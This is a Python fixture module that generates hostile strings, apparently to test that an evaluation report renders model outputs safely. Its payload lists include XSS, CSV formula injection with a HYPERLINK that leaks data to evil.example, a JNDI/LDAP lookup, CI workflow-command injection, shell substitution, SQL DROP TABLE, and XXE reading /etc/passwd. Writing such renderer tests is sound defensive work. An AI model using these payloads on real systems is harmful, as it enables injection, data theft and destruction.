"""What a model may answer to break whatever shows it, by category; generated, always the same.

`responses()` has more than 200 texts; each says `MARK` and its number, so
that a test can find again where it went.
"""

import random
from dataclasses import replace

from alignment.analysis.rollup import summarise_variants
from alignment.records import Interval
from alignment.records.decisions import Change, Decision, Findings, Flip, GateResult
from alignment.reporting.document import document as report
from support.reporting_sample import AXES, case, results

MARK = "pwned"
SCRIPT = "window.pwned=(window.pwned||0)+1;alert('pwned')"
TAGS = ("img", "svg", "iframe", "video", "body", "details", "input", "object", "style", "math")
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "ontoggle", "onfocus")
CASES = ("{}", "{}>", '">{}', "'>{}", "--><x>{}", "</textarea>{}", "</title>{}", "</style>{}")
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"pwned")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\xa0@SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe62" + "1",
    "\u2212" + "1",
    "\x00=1+1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x1bP$q\x1b\\",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x08" * 40,
    "safe\roverwritten",
    "bell\x07",
    "\x0c\x0b\x7f",
)
COMMANDS = (
    "::error::{}",
    "::error file=a.py,line=1::{}",
    "::add-mask::{}",
    "::stop-commands::{}",
    "::set-output name=x::{}",
    "  ::warning::{}",
    "\u3000::error::{}",
    "##[error]{}",
    "text ##[add-matcher]{}",
    "##vso[task.setvariable variable=x]{}",
    "##teamcity[message text='{}']",
    "a\n::error::{}",
    "a\r::error::{}",
    "a-::error::{}",
    "%0A::error::{}",
)
MARKDOWN = (
    "![{0}](http://evil.example/{0}.png)",
    "[{0}](javascript:alert(1))",
    "[{0}](http://evil.example)",
    "<http://evil.example/{0}>",
    "http://evil.example/{0}",
    "www.evil.example/{0}",
    "{0}@evil.example",
    "@torvalds {0}",
    "#1 GH-1 torvalds/linux#1 {0}",
    "a5c3785ed8d6a35868bc169f07e40e889087fd2e {0}",
    "[{0}]\n\n[{0}]: http://evil.example",
    "# {0}\n\n---\n\n> quote\n\n- [ ] task",
    "{0}\n===\n",
    "| a | b |\n| --- | --- |\n| {0} | x |",
    "a | {0} \\| b ¦ c",
    "`{0}` ``{0}`` ```{0}```",
    "```\n{0}\n```\n<b>out</b>",
    "~~~\n{0}\n~~~~\n",
    "`" * 100 + "{0}",
    "    indented {0}",
    "<details><summary>{0}</summary>",
    "</details>{0}",
    "</details>\n\n<h1>{0}</h1>",
    ":rocket: ~~{0}~~ **{0}** __{0}__",
    "$$\\href{{javascript:alert(1)}}{{{0}}}$$ $`{0}`$",
    "```mermaid\ngraph TD; click A href \"javascript:alert('{0}')\"\n```",
    "> [!CAUTION]\n> {0}",
    "\\`{0}\\` \\[x\\](y)",
)
TEMPLATES = (
    "{{{{ 7*7 }}}} {0}",
    "{{% for x in ().__class__.__bases__ %}}{0}{{% endfor %}}",
    "{{# {0} #}}",
    "${{{{ secrets.GITHUB_TOKEN }}}} {0}",
    "${{jndi:ldap://evil.example/{0}}}",
    "<%= {0} %>",
    "{{0.__class__}} %s %(x)s %n {0}",
    "$(touch {0}) `touch {0}`",
    "'; DROP TABLE entries; -- {0}",
)
UNICODE = (
    "\u202egnirts {0}\u202c",
    "\u2066\u2067\u2068{0}\u2069",
    "\u200e\u200f\u061c{0}",
    "\u2028{0}\u2029",
    "\u0085{0}",
    "\ufeff{0}\ufffe\uffff",
    "\U000e0041\U000e0042{0}",
    "\u00ad\u200b\u2060{0}",
    "z\u0361\u0489" + "\u0301" * 200 + "{0}",
    "\ud800{0}",
    "{0}\udfff",
    "\udc00\ud800{0}",
    "\ud83d {0} \ude00",
    "\x00{0}\x00",
    "{0}" + "\x00" * 50,
    "".join(map(chr, range(32))) + "{0}",
    "".join(map(chr, range(127, 160))) + "{0}",
    "\U0010ffff{0}\U0001f3f4\u200d\u2620\ufe0f",
)
ENDS = (
    "</script><script>" + SCRIPT + "</script>{0}",
    "<!--<script>{0}",
    "<!-- {0}",
    "--> {0}",
    "]]>{0}<![CDATA[",
    "<![CDATA[{0}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{0}&a;",
    "&lt;b&gt; &#60;script&#62; &amp;amp; &{0};",
    "\\u003cscript\\u003e{0}",
    '"}}],"cases":[{{"{0}":1',
    "</pre></td></tr></table></main></body></html>{0}",
    "<plaintext>{0}",
    "<xmp>{0}",
    "<base href='http://evil.example/'>{0}",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{0}'>",
    "<link rel=stylesheet href=http://evil.example/{0}.css>",
    "<form action=http://evil.example><button>{0}",
    "<a href=javascript:alert(1)>{0}</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>{0}</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>{0}",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/{0})'>",
    "<b><i><u>{0}",
    "<div class='{0}",
    '<a b="{0}',
    "<scr<script>ipt>" + SCRIPT + "</scr</script>ipt>{0}",
    "<template shadowrootmode=open><slot>{0}",
)


def categories():
    """Category -> the texts of it."""
    drawn = random.Random(5)
    scripts = [case.format(f"<script>{SCRIPT}</script>") for case in CASES]
    handlers = [
        case.format(f'<{tag} src=x open autofocus {event}="{SCRIPT}">')
        for tag in TAGS
        for event in EVENTS
        for case in drawn.sample(CASES, 1)
    ]
    letters = "<>\"'&=/`|[]()!@#:;%{}$\\\n\r\t\x00\x1b\u202e\ud800ab "
    noise = ["".join(drawn.choices(letters, k=60)) for _ in range(30)]
    return {
        "script": scripts,
        "handler": handlers,
        "end": [text.format(MARK) for text in ENDS],
        "markdown": [text.format(MARK) for text in MARKDOWN],
        "terminal": list(TERMINAL),
        "command": [text.format(MARK) for text in COMMANDS],
        "unicode": [text.replace("{0}", MARK) for text in UNICODE],
        "template": [text.format(MARK) for text in TEMPLATES],
        "formula": list(FORMULAS),
        "noise": noise,
        "long": ["<b>" + "pwned " * 180_000, "<" * 50_000, ("=1+1\n" * 10_000), "\x1b" * 10_000],
        "empty": ["", " ", "\n\n", "\u200b"],
    }


def responses():
    """All texts in order: more than 200, each as it is."""
    return [text for texts in categories().values() for text in texts]


def document():
    """A report in which every response, prompt and flip is hostile: each text stands in a case."""
    texts = responses()
    cases = []
    for i, text in enumerate(texts):
        made = case("sft", "harmlessness", i, passed=i % 2 == 0, text=text)
        prompt = replace(made.prompt, id=f"p{i}", text=f"Human: {text[:500]}", cluster=f"p{i}")
        cases.append(replace(made, prompt=prompt))
    flips = tuple(
        Flip(f"p{i}", True, False, 1.0, -1.0, f"Human: {text[:500]}", texts[i - 1], text)
        for i, text in enumerate(texts)
    )
    change = Change("HmR", 239, 90.0, 60.0, 71, 0, -30.0, Interval(-39.5, -20.6), 1e-8, 2e-8)
    decision = Decision("sft", "harmlessness", "HmR", "baseline", "fail", 10.0, change, 1e-8)
    failed = replace(decision, flips=flips)
    summaries = summarise_variants(cases, AXES, reference="base", confidence=0.95)
    made = results(cases=tuple(cases), summaries=summaries)
    found = report(made, Findings(gate=GateResult("baseline", (failed,))))
    found["run"] |= {"id": "0" * 16, "history": [], "started": "2025-01-01T00:00:00+00:00"}
    return found
